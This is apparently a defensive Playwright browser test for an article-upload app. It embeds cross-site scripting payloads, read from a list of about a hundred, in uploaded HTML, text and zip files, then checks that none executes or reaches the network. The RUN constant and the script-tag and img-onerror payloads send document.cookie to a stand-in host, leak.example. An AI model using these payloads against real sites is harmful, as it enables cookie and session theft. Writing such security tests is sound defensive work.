"""A hundred attempts to run in the browser or to reach the network, in files of several formats."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FilePayload, Page, expect

pytestmark = pytest.mark.browser

RUN = "window.ran=1;fetch('http://leak.example/'+document.cookie)"
ATTEMPTS = [
    line.replace("RUN", RUN) for line in Path(__file__).with_name("attempts.txt").read_text().splitlines()
]
PROSE = "On February 9 the U.S. dollar traded at 90,000 tomans on the open market, and shops held back goods."


def files() -> list[tuple[str, bytes]]:
    """The attempts as pages, as plain texts, and in titles and names; all of it once more in an archive."""
    made = []
    for start in range(4):
        some = ATTEMPTS[start::4]
        named = some[1].replace('"', "")
        head = f'<title>{some[0]}</title><meta property="og:title" content="{named}">'
        body = "".join(f"<p>{PROSE} {start + n}</p>{one}" for n, one in enumerate(some))
        page = f"<!doctype html><html><head>{head}</head><body><article>{body}</article></body></html>"
        lines = [
            some[2][:100],
            "",
            f"TEHRAN, February 10, 2025 – {PROSE}",
            *(f"{PROSE} {one}" for one in some),
        ]
        made += [(f"page {start}.html", page.encode()), (f"{some[3]}{start}.txt", "\n".join(lines).encode())]
    held = BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, data in made:
            archive.writestr(name, data + b"\n<p>Archived.</p>")
    return [*((f"{number}.bin", data) for number, (_, data) in enumerate(made)), ("all.zip", held.getvalue())]


def settled(page: Page) -> None:
    app = page.get_by_test_id("stApp")
    expect(app).to_have_attribute("data-test-script-state", "notRunning", timeout=60_000)


def test_nothing_runs_and_no_request_leaves(server: str, browser: Browser) -> None:
    assert len(ATTEMPTS) >= 100
    page = browser.new_page()
    page.route("**/leak.example/**", lambda route: route.abort())
    for attempt in (f"<script>{RUN}</script>", f'<img src=x onerror="{RUN}">'):
        assert attempt in ATTEMPTS
        page.goto("about:blank")
        page.set_content(attempt)
        page.wait_for_function("window.ran === 1")  # they are real
    page.close()
    page = browser.new_page()
    asked: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(f"{server}/upload")
    page.locator("input[type=file]").first.set_input_files(
        [FilePayload(name=name, mimeType="text/plain", buffer=data) for name, data in files()]
    )
    expect(page.locator(".prose").first).to_be_visible(timeout=60_000)
    settled(page)
    assert page.locator(".prose").filter(has_text="<script>").count() > 0  # shown as words
    page.locator(".st-key-save_all button").click()
    expect(page.get_by_text("Open the article").first).to_be_visible(timeout=60_000)
    for view in ("articles", "articles?article=1", "articles?article=2", "overview", "chart?series=ir.usd"):
        page.goto(f"{server}/{view}")
        settled(page)
        assert page.evaluate("window.ran") is None
        assert page.locator("script[src*=leak], iframe[src^=javascript], [onerror], [onload]").count() == 0
    own = ("data:", "blob:", server, server.replace("http", "ws"))
    assert [url for url in asked if not url.startswith(own)] == [] and dialogs == []
